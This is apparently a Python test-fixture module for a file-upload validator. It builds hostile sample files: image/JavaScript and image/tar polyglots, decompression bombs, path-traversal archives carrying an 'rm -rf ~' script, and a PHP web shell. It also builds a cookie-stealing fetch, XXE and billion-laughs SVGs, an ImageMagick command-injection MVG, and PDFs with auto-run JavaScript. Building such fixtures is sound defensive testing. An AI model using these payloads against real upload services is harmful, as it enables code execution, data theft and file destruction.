"""Files that are two things at once, or that say what is not so: how those of the tables in `adversaries` are made.

The same call makes the same bytes, but for a PDF that is encrypted.
"""

from __future__ import annotations

import io
import lzma
import struct
import tarfile
import time
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from tests.content import hostile_archives as hostile
from tests.content.hostile_archives import ZEROS, of_kind, tarred, zipped
from tests.content.pictures import GIF, JPEG, PNG, WEBP, after_start, drawn, jpeg_segment, png_chunk, written

from uploadkit.policy.media_types import OFFICE
from uploadkit.testing import sample

HTML = b"<!doctype html><html><body onload=alert(1)><script>alert(document.cookie)</script></body></html>\n"
PHP = b"<?php system($_GET['c']); ?>"
SHELL = b"#!/bin/sh\nrm -rf ~\n"
JAVASCRIPT = b"fetch('//127.0.0.1/' + document.cookie)\n"
ELF = b"\x7fELF\2\1\1".ljust(64, b"\0") + bytes(200)
PE = b"MZ\x90\0".ljust(60, b"\0") + b"\x40\0\0\0PE\0\0" + bytes(200)
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 60 40\n(/etc/passwd) (r) file\nshowpage\n"
DOS_EPS = b"\xc5\xd0\xd3\xc6" + struct.pack("<6I", 32, len(EPS), 0, 0, 0, 0) + b"\xff\xff\0\0" + EPS
MVG = (
    b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|ls \"-la)'\npop graphic-context\n"
)
MSL = b'<?xml version="1.0"?>\n<image><read filename="/etc/passwd"/><write filename="/tmp/x"/></image>\n'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>\n'
LAUGHS = b"".join(
    [
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a0 "ha">\n',
        *(b'<!ENTITY a%d "%b">\n' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 10)),
        b']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>\n',
    ]
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
)

# Pictures

AVIF = cache(lambda: written(drawn((600, 400)), "AVIF"))


@cache
def picture(format: str) -> bytes:
    """One of each format, of some size."""
    return written(drawn((240, 160)), format)


def jpeg_with_comment(text: bytes) -> bytes:
    return after_start(JPEG, jpeg_segment(0xFE, text))


def png_with(*chunks: bytes) -> bytes:
    """Before its picture."""
    return PNG[:33] + b"".join(chunks) + PNG[33:]


def gif_with_comment(text: bytes) -> bytes:
    blocks = b"".join(bytes([len(text[at : at + 255])]) + text[at : at + 255] for at in range(0, len(text), 255))
    at = GIF.index(b",\0\0\0\0")
    return GIF[:at] + b"!\xfe" + blocks + b"\0" + GIF[at:]


def gif_as_javascript(opening: bytes, closing: bytes) -> bytes:
    """Its sides are the letters that open a comment or a text, which is closed behind its picture."""
    return GIF[:6] + opening + GIF[6 + len(opening) :] + closing + JAVASCRIPT


def jpeg_as_javascript(marker: int = 0xE0) -> bytes:
    """The length of its first segment opens a comment."""
    return after_start(JPEG, jpeg_segment(marker, bytes(0x2F2A - 2))) + b"*/=1;" + JAVASCRIPT


def bmp_as_javascript() -> bytes:
    """So does what says how long it is."""
    whole = picture("BMP")
    return whole[:2] + b"/*" + whole[4:] + b"*/=1;" + JAVASCRIPT


def jpeg_as_tar() -> bytes:
    """The first block is the header of a tar, and a comment of the picture."""
    head = tarfile.TarInfo("x")
    head.size = len(JPEG) - 2
    block = bytearray(head.tobuf(tarfile.USTAR_FORMAT))
    block[:100] = (b"\xff\xd8\xff\xfe" + struct.pack(">H", 508)).ljust(100, b"\0")
    return as_tar(block, JPEG[2:])


def png_as_tar() -> bytes:
    """Here it is in a text, which goes on behind the header."""
    head = tarfile.TarInfo("x")
    block = bytearray(head.tobuf(tarfile.USTAR_FORMAT))
    block[:100] = (PNG[:33] + struct.pack(">I", 483) + b"tEXt").ljust(100, b"\0")
    size = len(PNG) - 33 + 16
    block[124:136] = b"%011o\0" % size
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    text = bytes(block[37:]) + bytes(12)
    return as_tar(block, bytes(12) + struct.pack(">I", zlib.crc32(text)) + PNG[33:])


def as_tar(block: bytearray, data: bytes) -> bytes:
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + data + bytes(-len(data) % 512) + tarred(("evil.sh", SHELL))


def jpeg_as_iso() -> bytes:
    """A CD, whose first sectors are anybody's."""
    text = bytes(0x8001 - 6) + b"CD001\1" + bytes(20_000)
    return after_start(JPEG, jpeg_segment(0xFE, text))


def gif_of(width: int, height: int) -> bytes:
    return GIF[:6] + struct.pack("<HH", width, height) + GIF[10:]


def bmp_of(width: int, height: int) -> bytes:
    whole = picture("BMP")
    return whole[:18] + struct.pack("<ii", width, height) + whole[26:]


def tiff_of(width: int, height: int) -> bytes:
    """A TIFF that declares these sides: of its tags 256 and 257."""
    whole = bytearray(picture("TIFF"))
    at = int.from_bytes(whole[4:8], "little")
    for entry in range(at + 2, at + 2 + 12 * int.from_bytes(whole[at : at + 2], "little"), 12):
        tag = int.from_bytes(whole[entry : entry + 2], "little")
        if tag in (256, 257):
            whole[entry + 2 : entry + 12] = struct.pack("<HII", 4, 1, width if tag == 256 else height)
    return bytes(whole)


def large_tiff_of(width: int, height: int) -> bytes:
    """A BigTIFF, whose numbers have 64 bits."""
    tags = {256: width, 257: height, 258: 8, 259: 1, 262: 1, 273: 16, 277: 1, 278: height, 279: 1}
    entries = b"".join(struct.pack("<HHQQ", tag, 4, 1, value) for tag, value in tags.items())
    return b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, len(tags)) + entries + bytes(8)


def avif_of(width: int, height: int) -> bytes:
    at = AVIF().index(b"ispe") + 8
    return AVIF()[:at] + struct.pack(">II", width, height) + AVIF()[at + 8 :]


@cache
def real_scan() -> bytes:
    """14,000 x 14,000 pixels of one bit, in one strip that is deflated."""
    data = zlib.compress(bytes(14_000 * 1750), 1)
    at = 8 + len(data)
    tags = {256: 14_000, 257: 14_000, 258: 1, 259: 8, 262: 1, 273: 8, 277: 1, 278: 14_000, 279: len(data)}
    entries = b"".join(struct.pack("<HHLL", tag, 4, 1, value) for tag, value in tags.items())
    return b"II*\0" + struct.pack("<L", at) + data + struct.pack("<H", len(tags)) + entries + bytes(4)


def endless_tiff() -> bytes:
    """Each picture says that it is followed by itself."""
    whole = bytearray(picture("TIFF"))
    at = int.from_bytes(whole[4:8], "little")
    following = at + 2 + 12 * int.from_bytes(whole[at : at + 2], "little")
    whole[following : following + 4] = whole[4:8]
    return bytes(whole)


@cache
def progressive() -> bytes:
    return written(drawn((64, 64)), "JPEG", progressive=True)


def jpeg_of_scans(count: int, width: int = 64, height: int = 64) -> bytes:
    """The last scan over and over."""
    whole = progressive()
    frame, at = whole.index(b"\xff\xc2"), whole.rindex(b"\xff\xda")
    whole = whole[: frame + 5] + struct.pack(">HH", height, width) + whole[frame + 9 :]
    return whole[:at] + whole[at:-2] * count + whole[-2:]


@cache
def packed_zeros() -> bytes:
    return zlib.compress(bytes(60_000_000), 1)


def gif_in_pieces(comment: bytes = b"", picture: bytes = b"") -> bytes:
    """With so much more before its picture, and in that."""
    at = GIF.index(b",\0\0\0\0")
    return GIF[:at] + comment + GIF[at:-2] + picture + b"\0;"


def bmp_of_old() -> bytes:
    """With the header of 1987, of twelve bytes."""
    rows = bytes(range(48)) * 16
    return b"BM" + struct.pack("<IHHI", 26 + len(rows), 0, 0, 26) + struct.pack("<IHHHH", 12, 16, 16, 1, 24) + rows


def bmp_from_above() -> bytes:
    """Its height is negative."""
    whole = picture("BMP")
    return whole[:22] + struct.pack("<i", -160) + whole[26:]


def bmp_of_runs(width: int, height: int, runs: bytes) -> bytes:
    """A BMP that is packed: two bytes for each run."""
    start = 14 + 40 + 1024
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(runs), 2835, 2835, 256, 0)
    return b"BM" + struct.pack("<IHHI", start + len(runs), 0, 0, start) + header + bytes(1024) + runs


def png_text_bomb(kind: bytes, before: bytes) -> bytes:
    return png_with(png_chunk(kind, before + packed_zeros()))


def jpeg_of_two_headers() -> bytes:
    """Which of both a reader believes is its own affair."""
    header = JPEG[JPEG.index(b"\xff\xc0") : JPEG.index(b"\xff\xc4")]
    return after_start(JPEG, header)


def webp_with_frame(width: int, height: int) -> bytes:
    """The canvas is small, and the picture in it says to be large."""
    at = WEBP.index(b"\x9d\x01\x2a") + 3
    return WEBP[:at] + struct.pack("<HH", width, height) + WEBP[at + 4 :]


# Archives


def lzma_alone(data: bytes) -> bytes:
    return lzma.compress(data, lzma.FORMAT_ALONE, preset=1)


def tar_of_two_sizes() -> bytes:
    """By its pax headers the entry has an archive as its bytes; who reads the plain header alone unpacks that."""
    evil = tarred(("../evil", SHELL))
    info = tarfile.TarInfo("a")
    info.pax_headers = {"size": f"{len(evil)}"}
    made = tarred((info, b""))
    at = made.index(b"a\0\0\0", 1024)
    return made[: at + 512] + evil + bytes(1024)


def tar_with_headers(**told: str) -> bytes:
    """A tar whose pax headers hold for all of its entries."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT, pax_headers=told) as made:
        made.addfile(tarfile.TarInfo("a"))
    return out.getvalue()


def tar_behind_its_end(zeros: int) -> bytes:
    """Some unpackers go on behind so many blocks of zeros."""
    first = tarred(("a", b"x"))[:1024]
    return first + bytes(512 * zeros) + tarred(("../evil", SHELL))


def tar_of_headers() -> bytes:
    """An entry, before it a mebibyte of lines that say nothing."""
    header = tarfile.TarInfo("x")
    header.type, header.size = b"x", 6 * 2**17
    return header.tobuf(tarfile.USTAR_FORMAT) + b"6 a=b\n" * 2**17 + tarred(("a", b"x"))


def zip64_that_lies() -> bytes:
    """The sizes in the entry's own zip64 field are others than in the directory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made, made.open("a", "w", force_zip64=True) as entry:
        entry.write(b"data")
    whole = bytearray(out.getvalue())
    extra = 30 + 1
    whole[extra + 4 : extra + 12] = struct.pack("<Q", 2**40)
    return bytes(whole)


def zip_with_descriptor_bomb() -> bytes:
    """Written as a stream: the sizes stand behind the bytes, and lie."""
    packed = hostile.deflated(ZEROS, 4)
    facts = {"packed": len(packed), "size": 100, "checksum": 0}
    header = bytearray(hostile.local(b"a", packed=0, size=0, checksum=0))
    header[6] |= 8
    descriptor = b"PK\x07\x08" + struct.pack("<LLL", 0, len(packed), 100)
    directory = bytearray(hostile.central(b"a", offset=0, **facts))
    directory[8] |= 8
    return hostile.ended(bytes(header) + packed + descriptor, bytes(directory), 1)


def zip_with_unicode_path() -> bytes:
    """A harmless name, and beside it the one that unpackers prefer."""
    name = b"../evil"
    extra = struct.pack("<HHBL", 0x7075, 5 + len(name), 1, zlib.crc32(b"a")) + name
    info = zipfile.ZipInfo("a")
    info.extra = extra
    return zipped((info, b"x"))


def zip_of(*names: str) -> bytes:
    return zipped(*((name, b"x") for name in names))


def zip_ended_in_64_bits() -> bytes:
    """Every number of its end stands in the record before that."""
    body = zip_of("a")
    at = body.rindex(b"PK\5\6")
    size, start = struct.unpack_from("<LL", body, at + 12)
    record = b"PK\6\6" + struct.pack("<QHHLLQQQQ", 44, 45, 45, 0, 0, 1, 1, size, start)
    locator = b"PK\6\7" + struct.pack("<LQL", 0, at, 1)
    return body[:at] + record + locator + b"PK\5\6" + b"\xff" * 16 + b"\0\0"


def zip_in_volumes() -> bytes:
    whole = bytearray(zip_of("a"))
    at = whole.rindex(b"PK\5\6")
    whole[at + 4 : at + 6] = b"\1\0"
    return bytes(whole)


def streamed_zip(data: bytes = b"hello\n" * 999) -> bytes:
    """By a writer that cannot go back."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError("no place")

    out = Pipe()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in ("a.txt", "b.txt"):
            made.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def zip64() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in ("a.txt", "b.txt"):
            with made.open(zipfile.ZipInfo(name), "w", force_zip64=True) as entry:
                entry.write(b"hello\n" * 999)
    return out.getvalue()


def tar(format: int = tarfile.PAX_FORMAT) -> bytes:
    """With a folder, a long name and letters of everywhere."""
    folder = of_kind("photos", tarfile.DIRTYPE)
    return tarred((folder, b""), ("photos/a.jpg", JPEG), (f"photos/{'long/' * 30}ж.txt", b"x" * 2000), format=format)


# Documents


def office(*parts: tuple[str, bytes], types: bytes = b"", kind: str = "wordprocessingml.document") -> bytes:
    """A document of Office with further parts, and further content types; all that tells what it is comes first."""
    made = io.BytesIO(sample(OFFICE + kind))
    with zipfile.ZipFile(made) as plain:
        entries = [(name, plain.read(name)) for name in plain.namelist()]
    changed = [(name, data.replace(b"</Types>", types + b"</Types>")) for name, data in entries]
    return zipped(*changed, *parts)


def macro_document(kind: bytes, main: str, vba: str) -> bytes:
    """A document with macros that says so."""
    types = (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/'
        + main.encode()
        + b'" ContentType="application/vnd.ms-'
        + kind
        + b'.macroEnabled.main+xml"/></Types>'
    )
    names = [("[Content_Types].xml", types), (main, b"<x/>"), (vba, VBA)]
    return zipped(*names)


VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribut\0e VB_Nam" * 40
VBA_TYPE = b'<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>'


def far(data: bytes, name: str = "word/media/image1.png") -> tuple[str, bytes]:
    """A part that pushes those behind it out of the first bytes."""
    return name, data + bytes(range(256)) * 64


def compound(*names: str) -> bytes:
    """A file of Office 97, as far as its directory: a header, and entries of these names."""
    entries = [(name.encode("utf-16-le") + b"\0\0").ljust(64, b"\0").ljust(128, b"\1") for name in names]
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + b"".join(entries).ljust(1024, b"\0")


def pdf(change: Callable[[PdfWriter], object] = lambda writer: None) -> bytes:
    """A page, and what `change` makes of it."""
    writer = PdfWriter()
    writer.add_blank_page(200, 100)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def named(**entries: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def opening(kind: str, **entries: str) -> Callable[[PdfWriter], object]:
    """What happens when the document is opened."""

    def change(writer: PdfWriter) -> None:
        texts = {key: TextStringObject(value) for key, value in entries.items()}
        writer.root_object[NameObject("/OpenAction")] = named(S=NameObject(f"/{kind}"), **texts)

    return change


def with_named_script(writer: PdfWriter) -> None:
    """It runs when the document is opened, since its names have it."""
    script = named(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    names = named(Names=ArrayObject([TextStringObject("a"), writer._add_object(script)]))
    writer.root_object[NameObject("/Names")] = named(JavaScript=names)


def with_link(writer: PdfWriter) -> None:
    """To a page on the web, as a letter has it."""
    link = named(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Link"),
        Rect=ArrayObject([NumberObject(at) for at in (0, 0, 50, 50)]),
        A=named(S=NameObject("/URI"), URI=TextStringObject("https://example.org/")),
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def photographed() -> bytes:
    """A PDF as a scanner makes it."""
    return written(drawn((240, 160)), "PDF", creationDate=time.gmtime(0), modDate=time.gmtime(0))


def escaped_script() -> bytes:
    """The name of the action is written in numbers."""
    return (
        pdf(opening("JavaScript", JS="app.alert(1)"))
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS", b"/#4aS")
    )


def epub() -> bytes:
    return zipped(
        ("mimetype", b"application/epub+zip"),
        ("META-INF/container.xml", b"<container/>"),
        ("book.xhtml", b"<html/>"),
        method=zipfile.ZIP_STORED,
    )
